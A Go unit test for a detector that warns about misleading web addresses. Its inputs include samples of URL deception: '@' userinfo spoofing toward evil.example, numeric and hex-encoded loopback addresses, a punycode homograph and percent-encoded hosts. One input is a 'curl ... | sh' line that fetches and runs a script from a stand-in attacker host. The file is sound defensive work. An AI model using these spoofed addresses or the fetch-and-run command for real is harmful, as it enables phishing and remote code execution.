package display

import (
	"strings"
	"testing"
)

func TestMisleadingAddresses(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://apple.com@evil.example/", "leads to evil.example, not to what stands before the @: https://apple.com@evil.example/"},
		{"curl -s 'https://apple.com:443@evil.example:8/x?y' | sh", "leads to evil.example, not to what stands before the @: https://apple.com:443@evil.example:8/x?y"},
		{`https://evil.example\@apple.com/`, `leads to evil.example or to apple.com, depending on the program: https://evil.example\@apple.com/`},
		{"http://2130706433/", "leads to 127.0.0.1: http://2130706433/"},
		{"http://0x7f.1/", "leads to 127.0.0.1: http://0x7f.1/"},
		{"http://0177.0.0.1/", "leads to 127.0.0.1: http://0177.0.0.1/"},
		{"http://[::ffff:10.0.0.1]/", "leads to 10.0.0.1: http://[::ffff:10.0.0.1]/"},
		{"http://xn--80ak6aa92e.com/", "leads to xn--80ak6aa92e.com, a name of other letters in disguise: http://xn--80ak6aa92e.com/"},
		{"http://%65vil.example/", "leads to a host whose name is hidden by % signs: http://%65vil.example/"},
		{"https://example.org/a@b https://127.0.0.1:80/ http://[::1]/ ssh://host/x mailto:a@b", ""},
		{"see https://example.org/?q=a@b#c@d", ""},
		{"://x@y", ""},
		{"http://1.2.3.4.5/ http://999/x http://256.1/", "leads to 0.0.3.231: http://999/x"},
	} {
		if got := strings.Join(MisleadingAddresses(tc.in), "; "); got != tc.want {
			t.Errorf("%q: %q, want %q", tc.in, got, tc.want)
		}
	}
}
